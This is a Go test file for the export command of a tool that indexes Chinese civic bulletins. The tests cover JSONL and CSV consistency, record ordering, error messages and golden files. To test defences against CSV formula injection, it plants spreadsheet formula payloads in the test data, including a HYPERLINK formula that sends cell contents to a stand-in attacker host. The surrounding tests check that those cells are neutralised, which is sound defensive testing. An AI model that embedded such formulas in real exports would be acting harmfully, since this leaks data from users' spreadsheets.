package main

import (
	"bufio"
	"encoding/csv"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	"jianbao/report"
)

// exportJSONL runs `jianbao export --format jsonl` with args and returns
// one raw object per line.
func exportJSONL(t *testing.T, args ...string) []json.RawMessage {
	t.Helper()
	code, out, stderr := run(t, append([]string{"export", "--format", "jsonl"}, args...)...)
	if code != 0 {
		t.Fatalf("export %v: exit %d: %s", args, code, stderr)
	}
	var recs []json.RawMessage
	sc := bufio.NewScanner(strings.NewReader(out))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		if !json.Valid(sc.Bytes()) {
			t.Fatalf("line %d is not JSON: %s", len(recs)+1, sc.Text())
		}
		recs = append(recs, json.RawMessage(slices.Clone(sc.Bytes())))
	}
	return recs
}

// TestExportMatchesSearchAndShow checks that export writes as many records
// as search counts, in date order, each equal to what show prints.
func TestExportMatchesSearchAndShow(t *testing.T) {
	dir := sampleIndex(t)
	for _, args := range [][]string{nil, {"志愿"}, {"--district", "海淀", "--from", "2021"}, {"--theme", "垃圾分类"}, {"志愿 -疫情"}} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			recs := exportJSONL(t, append([]string{"--index", dir}, args...)...)
			total, _ := searchCounts(t, append([]string{"--index", dir}, args...)...)
			if len(recs) != total || total == 0 {
				t.Fatalf("export wrote %d records, search counts %d", len(recs), total)
			}
			var prev report.ArticleView
			for i, raw := range recs {
				var v report.ArticleView
				if err := json.Unmarshal(raw, &v); err != nil {
					t.Fatal(err)
				}
				if i > 0 && (v.Date < prev.Date || v.Date == prev.Date && v.ID <= prev.ID) {
					t.Errorf("record %d (%s %s) after %s %s: not in date and ID order", i, v.Date, v.ID, prev.Date, prev.ID)
				}
				prev = v
				if i%7 != 0 && i != len(recs)-1 {
					continue // show a sample of them
				}
				code, out, stderr := run(t, "show", "--index", dir, "--format", "json", v.ID)
				if code != 0 {
					t.Fatalf("show %s: exit %d: %s", v.ID, code, stderr)
				}
				var want, got any
				json.Unmarshal([]byte(out), &want)
				json.Unmarshal(raw, &got)
				if !reflect.DeepEqual(got, want) {
					t.Errorf("export record of %s differs from show:\n%s\n%s", v.ID, raw, out)
				}
			}
		})
	}
}

// TestExportPagesPastSearchLimit exports an archive with more articles than
// one page of the index reader, and checks that each comes once.
func TestExportPagesPastSearchLimit(t *testing.T) {
	dir, _ := wholeSampleIndex(t)
	recs := exportJSONL(t, "--index", dir)
	code, out, _ := run(t, "stats", "--index", dir, "--format", "json")
	var st report.Stats
	if code != 0 || json.Unmarshal([]byte(out), &st) != nil {
		t.Fatalf("stats: exit %d", code)
	}
	seen := map[string]bool{}
	for _, raw := range recs {
		var v struct{ ID string }
		json.Unmarshal(raw, &v)
		if seen[v.ID] {
			t.Errorf("%s exported twice", v.ID)
		}
		seen[v.ID] = true
	}
	if len(recs) != st.Articles || len(seen) != st.Articles {
		t.Errorf("exported %d records (%d distinct), the archive has %d articles", len(recs), len(seen), st.Articles)
	}
}

// TestExportCSV checks that the CSV parses back with encoding/csv into the
// same records as the JSONL, list fields joined with "; ", with and without
// a byte order mark.
func TestExportCSV(t *testing.T) {
	dir := sampleIndex(t)
	recs := exportJSONL(t, "--index", dir, "志愿")
	for _, bom := range []bool{false, true} {
		args := []string{"export", "--index", dir, "--format", "csv", "志愿"}
		if bom {
			args = append(args, "--bom")
		}
		code, out, stderr := run(t, args...)
		if code != 0 {
			t.Fatalf("exit %d: %s", code, stderr)
		}
		if strings.HasPrefix(out, "\uFEFF") != bom {
			t.Errorf("bom %v: output starts %q", bom, out[:8])
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\uFEFF"))).ReadAll()
		if err != nil {
			t.Fatalf("csv: %v", err)
		}
		if len(rows) != len(recs)+1 || !reflect.DeepEqual(rows[0], articleColumns) {
			t.Fatalf("%d rows for %d records; header %v", len(rows), len(recs), rows[0])
		}
		for i, raw := range recs {
			var v report.ArticleView
			json.Unmarshal(raw, &v)
			row := map[string]string{}
			for j, c := range rows[0] {
				row[c] = rows[i+1][j]
			}
			if row["id"] != v.ID || row["body"] != v.Body || row["headline"] != v.Headline || row["date"] != v.Date ||
				row["themes"] != strings.Join(v.Themes, "; ") || row["organisations"] != strings.Join(v.Organisations, "; ") ||
				row["districts_mentioned"] != strings.Join(v.DistrictsMentioned, "; ") || row["title"] != v.Title {
				t.Errorf("row %d %v does not match record %s", i+1, row, raw)
			}
		}
	}
}

// TestExportIssues checks --issues: every issue with a matching article,
// each the record show prints for the issue.
func TestExportIssues(t *testing.T) {
	dir := sampleIndex(t)
	recs := exportJSONL(t, "--index", dir, "--issues", "--district", "海淀")
	_, issues := searchCounts(t, "--index", dir, "--district", "海淀")
	if len(recs) != issues || issues == 0 {
		t.Fatalf("%d issue records, search finds %d issues", len(recs), issues)
	}
	var v struct{ ID string }
	json.Unmarshal(recs[0], &v)
	_, out, _ := run(t, "show", "--index", dir, "--format", "json", v.ID)
	var want, got any
	json.Unmarshal([]byte(out), &want)
	json.Unmarshal(recs[0], &got)
	if !reflect.DeepEqual(got, want) {
		t.Errorf("issue record differs from show:\n%s\n%s", recs[0], out)
	}
	all := exportJSONL(t, "--index", dir, "--issues")
	code, out, stderr := run(t, "export", "--index", dir, "--issues", "--format", "csv")
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if code != 0 || err != nil || len(rows) != len(all)+1 || !reflect.DeepEqual(rows[0], issueColumns) {
		t.Errorf("issues csv: exit %d, %v, %d rows for %d issues: %s", code, err, len(rows), len(all), stderr)
	}
}

func TestExportErrors(t *testing.T) {
	dir := sampleIndex(t)
	for _, tt := range []struct {
		args []string
		want string
	}{
		{nil, "needs --format"},
		{[]string{"--format", "xml"}, "unknown format"},
		{[]string{"--format", "jsonl", "--bom"}, "--bom"},
		{[]string{"--format", "csv", "--from", "2021-13"}, "--from"},
		{[]string{"--format", "csv", "(志愿"}, "column"},
	} {
		code, _, stderr := run(t, append([]string{"export", "--index", dir}, tt.args...)...)
		if code != exitUsage || !strings.Contains(stderr, tt.want) {
			t.Errorf("export %v: exit %d, %q; want a usage error with %q", tt.args, code, stderr, tt.want)
		}
	}
	startServe(t, serveOptions{index: dir})
	code, _, stderr := run(t, "export", "--index", dir, "--format", "jsonl")
	if code != exitFailure || !strings.Contains(stderr, "/api/search") {
		t.Errorf("export while serving: exit %d, %q; want a pointer to the API", code, stderr)
	}
}

// formulaBulletin writes a bulletin whose headlines, bodies and a section
// start with spreadsheet formulas (=, @, +, -) and returns its index.
func formulaBulletin(t *testing.T) string {
	t.Helper()
	data, err := os.ReadFile("../../testdata/sample/bulletin-2021-014.txt")
	if err != nil {
		t.Fatal(err)
	}
	s := string(data)
	for _, r := range [][2]string{
		{"我市举办文明城区创建工作第一期培训班。", `=HYPERLINK("http://evil.example/?"&A1,"点击")我市举办文明城区创建工作第一期培训班。`},
		{"海淀区永定路街道建立", "@SUM(1+1)海淀区永定路街道建立"},
		{"近日,天安门", "+1+1近日,天安门"},
		{"近日,重点站区", "-2+3近日,重点站区"},
		{"【工作动态】", "【=1+2工作动态】"},
	} {
		if !strings.Contains(s, r[0]) {
			t.Fatalf("sample bulletin lacks %q", r[0])
		}
		s = strings.Replace(s, r[0], r[1], 1)
	}
	src := filepath.Join(t.TempDir(), "bulletin-2021-014.txt")
	if err := os.WriteFile(src, []byte(s), 0o644); err != nil {
		t.Fatal(err)
	}
	dir, _ := indexOf(t, src)
	return dir
}

// checkNoFormula fails when a cell of the CSV out starts with a character
// that a spreadsheet reads as a formula, and when fewer than min cells were
// neutralised with a leading apostrophe.
func checkNoFormula(t *testing.T, out string, min int) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatalf("csv: %v", err)
	}
	quoted := 0
	for _, row := range rows {
		for _, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("cell starts with a formula character: %.40q", c)
			}
			if len(c) > 1 && c[0] == '\'' && strings.ContainsRune("=+-@\t\r", rune(c[1])) {
				quoted++
			}
		}
	}
	if quoted < min {
		t.Errorf("%d cells neutralised, want at least %d:\n%s", quoted, min, out)
	}
}

// TestCSVFormulaCells checks that every CSV output (export of articles and
// of issues, with and without --bom, search, trend) writes a leading ' before
// cells that a spreadsheet would run as formulas.
func TestCSVFormulaCells(t *testing.T) {
	dir := formulaBulletin(t)
	for _, tc := range []struct {
		args []string
		min  int // cells that must be neutralised
	}{
		// headline and body of four articles, the section of two
		{[]string{"export", "--format", "csv"}, 10},
		{[]string{"export", "--format", "csv", "--bom"}, 10},
		{[]string{"search", "--format", "csv", "--limit", "10", "近日"}, 4},
		{[]string{"search", "--format", "csv", "--limit", "10", "HYPERLINK"}, 2},
		{[]string{"trend", "--format", "csv", "--split", "section", "近日"}, 1},
	} {
		t.Run(strings.Join(tc.args, " "), func(t *testing.T) {
			code, out, stderr := run(t, append(tc.args, "--index", dir)...)
			if code != 0 {
				t.Fatalf("exit %d: %s", code, stderr)
			}
			checkNoFormula(t, out, tc.min)
		})
	}
}

var updateExport = flag.Bool("update-export", false, "rewrite the golden files of testdata/export")

// TestExportGolden checks the export of the sample archive byte for byte
// against golden files, written by the export of an earlier version that
// paged through sorted searches: streaming changed neither the records nor
// their order. -update-export rewrites them.
func TestExportGolden(t *testing.T) {
	dir, _ := wholeSampleIndex(t)
	for _, tc := range []struct {
		golden string
		args   []string
	}{
		{"all.jsonl", []string{"--format", "jsonl"}},
		{"haidian-zhiyuan.csv", []string{"--format", "csv", "--district", "海淀", "志愿"}},
	} {
		t.Run(tc.golden, func(t *testing.T) {
			code, out, stderr := run(t, append([]string{"export", "--index", dir}, tc.args...)...)
			if code != 0 {
				t.Fatalf("exit %d: %s", code, stderr)
			}
			path := filepath.Join("testdata", "export", tc.golden)
			if *updateExport {
				if err := os.WriteFile(path, []byte(out), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			if out != string(want) {
				got, wantLines := strings.Split(out, "\n"), strings.Split(string(want), "\n")
				for i := range min(len(got), len(wantLines)) {
					if got[i] != wantLines[i] {
						t.Fatalf("line %d differs (of %d, want %d):\n got %.300s\nwant %.300s", i+1, len(got), len(wantLines), got[i], wantLines[i])
					}
				}
				t.Fatalf("%d lines, want %d", len(got), len(wantLines))
			}
		})
	}
}
